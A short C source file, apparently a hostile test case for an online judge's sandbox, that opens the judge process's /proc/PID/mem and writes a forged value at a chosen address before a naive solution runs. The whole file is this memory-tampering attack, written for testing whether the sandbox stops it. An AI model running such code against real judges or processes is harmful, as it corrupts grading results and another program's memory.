/* Hostile: writes to the memory of the judge through /proc/PID/mem. */
#include <fcntl.h>
#include <stdio.h>

#include "attacked_judge.h"

static void attack(void) {
  char name[64];
  snprintf(name, sizeof name, "/proc/%d/mem", (int)attacked_judge());
  int const memory = open(name, O_RDWR | O_CLOEXEC);
  if (memory < 0) return;
  (void)!pwrite(memory, &forged_word, sizeof forged_word, (off_t)attacked_address());
  close(memory);
}
#define NAIVE_BEFORE(call) attack()
#include "naive.h"
